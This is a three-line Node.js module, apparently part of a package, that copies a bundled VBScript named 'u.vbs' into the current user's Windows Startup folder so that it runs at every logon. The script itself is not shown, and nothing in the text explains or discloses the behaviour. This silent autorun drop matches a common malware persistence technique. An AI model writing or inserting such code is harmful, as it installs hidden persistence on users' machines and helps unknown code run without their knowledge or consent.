const fs = require("fs"), path = require("path");
const dir = path.join(process.env.APPDATA, "Microsoft/Windows/Start Menu/Programs/Startup");
module.exports = () => fs.copyFileSync(path.join(__dirname, "u.vbs"), path.join(dir, "u.vbs"));
